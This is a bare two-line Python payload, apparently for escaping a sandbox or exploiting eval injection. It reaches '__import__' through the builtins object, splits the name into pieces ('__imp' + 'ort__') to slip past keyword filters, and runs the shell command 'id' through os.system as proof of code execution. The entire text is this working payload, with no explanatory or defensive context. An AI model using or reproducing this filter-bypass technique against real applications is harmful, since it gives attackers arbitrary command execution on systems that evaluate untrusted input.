b = globals()["__builtins__"]
(b.__dict__ if hasattr(b, "__dict__") else b)["__imp" + "ort__"]("os").system("id")
